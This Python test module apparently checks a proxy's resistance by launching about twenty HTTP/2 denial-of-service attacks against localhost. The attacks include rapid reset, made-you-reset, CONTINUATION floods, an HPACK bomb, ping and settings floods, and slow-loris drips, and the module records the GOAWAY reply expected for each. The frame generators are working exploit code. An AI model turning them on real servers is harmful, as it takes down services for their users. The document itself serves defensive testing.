"""Clients that attack over HTTP/2, one way each, with raw sockets; run as a process of their own:

    python -m tests.kit.h2_attacks NAME PORT SECONDS

An attack is a table's row: what is sent on each connection, frame after frame, and what the proxy must say
to it. An attacker that is cut connects again at once and goes on until its time is over; then it writes what
it did and what it was told as one line of JSON. A process of its own, so that it shares no lock with whoever
measures meanwhile.

Field blocks are written out byte by byte (RFC 7541), for some of them no library would make.
"""

from __future__ import annotations

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from itertools import count, cycle

from appliance.http import h2_frames as f
from appliance.http.h2_frames import Code

BURST = 64 * 1024  # bytes that are handed to the kernel at once
PAUSE = 0.005  # seconds
MANY = 100  # streams that the proxy allows by default
WIDE = (1 << 31) - 1 - f.FIRST_WINDOW

Frames = Iterator[bytes]


def literal(index: int, value: bytes) -> bytes:
    """Give a field with a name of the static table, not to be indexed; ``value`` shorter than 127 bytes."""
    name = bytes((index,)) if index < 15 else bytes((15, index - 15))
    return name + bytes((len(value),)) + value


def block(path: bytes = b"/", *, post: bool = False) -> bytes:
    """Give the field block of a request."""
    return (b"\x83" if post else b"\x82") + b"\x86" + literal(4, path) + literal(1, b"a.example")


GET = block()
POST = block(post=True)
BIG = block(b"/big")  # the attacked have a long answer there
PAGE = block(b"/page")  # and here one of a few thousand bytes
LENGTH_1 = POST + literal(28, b"1")
TRAILERS = b"\x00\x01x\x01y"
MOMENT = b""  # instead of a frame: wait a little


def head(id: int, fields: bytes = GET, *, end: bool = True) -> bytes:
    """Give a request's HEADERS."""
    return f.heads(id, fields, end=end)


def ids() -> Iterator[int]:
    """Give the streams of a client, one after the other."""
    return iter(range(1, f.MAX_STREAM, 2))


def first() -> Iterator[int]:
    """Give as many of them as there may be at once."""
    return iter(range(1, 2 * MANY, 2))


# What is sent on each connection.


def rapid_reset() -> Frames:
    """Requests that are withdrawn at once (CVE-2023-44487)."""
    for id in ids():
        yield head(id) + f.reset(id, Code.CANCEL)


def made_you_reset() -> Frames:
    """Requests that the proxy must reset itself, for six reasons in turns (CVE-2025-8671)."""
    illegal: list[Callable[[int], bytes]] = [
        lambda id: head(id, POST, end=False) + f.window_update(id, 0),
        lambda id: head(id, POST, end=False) + f.window_update(id, f.MAX_WINDOW),
        lambda id: head(id, POST, end=False) + f.pack(f.PRIORITY, 0, id, b"four"),
        lambda id: head(id, POST, end=False) + head(id, TRAILERS, end=False),
        lambda id: head(id, LENGTH_1, end=False) + f.pack(f.DATA, 0, id, b"two"),
        lambda id: head(id) + f.pack(f.DATA, 0, id, b"late"),
    ]
    for id, make in zip(ids(), cycle(illegal), strict=False):
        yield make(id)


def continuations() -> Frames:
    """A field block that never ends (CVE-2024-27316)."""
    yield f.pack(f.HEADERS, 0, 1, GET)
    while True:
        yield f.pack(f.CONTINUATION, 0, 1, TRAILERS)


def hpack_bomb() -> Frames:
    """One field of four thousand bytes, put into the table and then named sixteen thousand times."""
    large = 4096 - 32 - 1
    field = b"\x40\x01x\x7f" + bytes((large - 127 & 127 | 128, large - 127 >> 7)) + b"y" * large
    for id in ids():
        yield head(id, GET + field) + head(id + 2, GET + b"\xbe" * (f.MAX_FRAME - len(GET)))


def empty_fields() -> Frames:
    """Heads of fields without name and value, as many as are still answered (CVE-2019-9516)."""
    for id in ids():
        yield head(id, GET + b"\x00\x00\x00" * 4000)


def indexed_fields() -> Frames:
    """Heads of fields of one byte each, as many as are still answered."""
    for id in ids():
        yield head(id, GET + b"\x95" * 3700)


def settings() -> Frames:
    """SETTINGS, of which each asks for an answer (CVE-2019-9515)."""
    for n in count():
        yield f.settings({f.WINDOW: 1000 + n % 2})


def fat_settings() -> Frames:
    """SETTINGS that change the windows of all streams thousands of times each."""
    for id in first():
        yield head(id, POST, end=False)
    pairs = struct.pack(">HLHL", f.WINDOW, 1, f.WINDOW, 2)
    while True:
        yield f.pack(f.SETTINGS, 0, 0, pairs * (f.MAX_FRAME // len(pairs)))


def pings() -> Frames:
    """PING, of which each asks for an answer (CVE-2019-9512)."""
    while True:
        yield f.pack(f.PING, 0, 0, b"attacked")


def empty_data() -> Frames:
    """DATA that holds nothing and ends nothing (CVE-2019-9518)."""
    yield head(1, POST, end=False)
    while True:
        yield f.pack(f.DATA, 0, 1)


def crumbs() -> Frames:
    """DATA of one byte each: allowed, and so never told off."""
    for id in ids():
        yield head(id, POST, end=False)
        for _ in range(f.FIRST_WINDOW - 1):
            yield f.pack(f.DATA, 0, id, b"x")
        yield f.pack(f.DATA, f.END_STREAM, id, b"x")


def priorities() -> Frames:
    """PRIORITY that shuffles streams (CVE-2019-9513)."""
    for n in count():
        yield f.pack(f.PRIORITY, 0, 2 * (n % 1000) + 1, struct.pack(">LB", 2 * (n * 7 % 1000) + 3, n % 256))


def priority_updates() -> Frames:
    """PRIORITY_UPDATE of streams that have not come, each as long as a frame can be (RFC 9218)."""
    for n in count():
        value = struct.pack(">L", 2 * (n % 1000) + 1) + b"u=1, " * ((f.MAX_FRAME - 4) // 5)
        yield f.pack(f.PRIORITY_UPDATE, 0, 0, value)


def windows_of_all() -> Frames:
    """The window of the connection, opened byte by byte."""
    while True:
        yield f.window_update(0, 1)


def windows_by_one() -> Frames:
    """An answer for which there is a window of 0, opened byte by byte (CVE-2019-9511, CVE-2019-9517).

    As long as each byte is sent, it is no flood.
    """
    yield f.settings({f.WINDOW: 0}) + head(1, BIG)
    while True:
        yield f.window_update(1, 1)


def window_0() -> Frames:
    """Large answers that nobody lets come, from a client that shows that it is there (CVE-2019-9517)."""
    yield f.settings({f.WINDOW: 0})
    for id in first():
        yield head(id, BIG)
    yield from slow_pings()


def window_steps() -> Frames:
    """Answers on all streams, let come byte by byte on all at once."""
    yield f.settings({f.WINDOW: 0})
    for id in first():
        yield head(id, PAGE)
    for _ in range(40):
        yield MOMENT
    for n in count(1):
        yield f.settings({f.WINDOW: n})


def slow_pings() -> Frames:
    """PINGs that are no flood."""
    while True:
        yield f.pack(f.PING, 0, 0, b"attacked")
        for _ in range(10):
            yield MOMENT


def deaf() -> Frames:
    """Large answers and all the window for them, from a client that never reads."""
    yield f.settings({f.WINDOW: f.MAX_WINDOW}) + f.window_update(0, WIDE)
    for id in first():
        yield head(id, BIG)
    yield from slow_pings()


def deaf_pings() -> Frames:
    """As many requests as there may be and a flood of PINGs, from a client that never reads."""
    for id in first():
        yield head(id)
    yield from pings()


def drip() -> Frames:
    """A head of which a byte comes now and then (slow loris)."""
    for byte in head(1, GET + TRAILERS * 3000):
        yield bytes((byte,))
        yield MOMENT


def many_streams() -> Frames:
    """Requests that nobody lets end, more of them than there may be."""
    yield f.settings({f.WINDOW: 0})
    for id in ids():
        yield head(id)


def unfinished() -> Frames:
    """Requests without their ends, of which each is answered all the same."""
    for id in ids():
        yield head(id, POST, end=False)


@dataclass(frozen=True)
class Attack:
    """``told``: what GOAWAY must say about it, "" if the attacker is borne, or not there to hear it."""

    frames: Callable[[], Frames]
    told: str = ""
    reads: bool = True


ATTACKS = {
    "rapid-reset": Attack(rapid_reset, "too many streams reset"),
    "made-you-reset": Attack(made_you_reset, "too many streams broken"),
    "continuation": Attack(continuations, "an endless field block"),
    "hpack-bomb": Attack(hpack_bomb, "a field list of more than"),
    "empty-fields": Attack(empty_fields),
    "indexed-fields": Attack(indexed_fields),
    "settings": Attack(settings, "too many frames that carry nothing"),
    "fat-settings": Attack(fat_settings, "too many frames that carry nothing"),
    "ping": Attack(pings, "too many frames that carry nothing"),
    "empty-data": Attack(empty_data, "too many frames that carry nothing"),
    "crumbs": Attack(crumbs),
    "priority": Attack(priorities, "too many frames that carry nothing"),
    "priority-update": Attack(priority_updates, "too many frames that carry nothing"),
    "windows": Attack(windows_of_all, "too many window updates"),
    "window-by-one": Attack(windows_by_one),
    "window-0": Attack(window_0),
    "window-steps": Attack(window_steps, "too many frames that carry nothing"),
    "deaf": Attack(deaf, reads=False),
    "deaf-ping": Attack(deaf_pings, reads=False),
    "drip": Attack(drip),
    "many-streams": Attack(many_streams, "too many streams broken"),
    "unfinished": Attack(unfinished),
}


# Whoever sends it.


@dataclass
class Report:
    """What an attacker did; ``told`` counts what GOAWAYs said, as ``CODE: text``."""

    connections: int = 0
    sent: int = 0
    heard: int = 0
    told: dict[str, int] = field(default_factory=dict)


class Hearing:
    """Finds what GOAWAYs say in what a connection receives."""

    def __init__(self, report: Report) -> None:
        self._report = report
        self._rest = b""

    def feed(self, data: bytes) -> None:
        """Take bytes."""
        self._report.heard += len(data)
        buffer, at = self._rest + data, 0
        while (frame := f.unpack(buffer, at)) is not None:
            kind, _, _, payload = frame
            at += f.HEAD + len(payload)
            if kind == f.GOAWAY:
                words = f"{f.code_name(f.code_at(payload, 4))}: {payload[8:].decode()}"
                self._report.told[words] = self._report.told.get(words, 0) + 1
        self._rest = buffer[at:]


def bursts(frames: Frames) -> Frames:
    """Join frames to large pieces, as far as no moment is between them."""
    parts: list[bytes] = []
    size = 0
    for frame in frames:
        parts.append(frame)
        size += len(frame)
        if size and (size >= BURST or frame == MOMENT):
            yield b"".join(parts)
            parts, size = [], 0
        if frame == MOMENT:
            yield MOMENT
    yield b"".join(parts)


def once(attack: Attack, port: int, until: float, report: Report) -> None:
    """Attack on one connection until it is cut or the time is over."""
    hearing = Hearing(report)
    pieces = bursts(attack.frames())
    waiting = f.PREFACE + f.settings({})
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        report.connections += 1
        reading = [sock] if attack.reads else []
        while (left := until - time.monotonic()) > 0:
            waiting = waiting or next(pieces, MOMENT)
            writing, limit = ([sock], min(left, 0.1)) if waiting else ([], PAUSE)
            readable, writable, _ = select.select(reading, writing, [], limit)
            if readable:
                data = sock.recv(BURST)
                if not data:
                    return
                hearing.feed(data)
            if writable:
                sent = sock.send(waiting)
                report.sent += sent
                waiting = waiting[sent:]


def run(name: str, port: int, seconds: float) -> Report:
    """Attack until the time is over, again at once after each cut."""
    report, until = Report(), time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            once(ATTACKS[name], port, until, report)
        except ConnectionError:
            continue
    return report


if __name__ == "__main__":
    print(json.dumps(asdict(run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))))
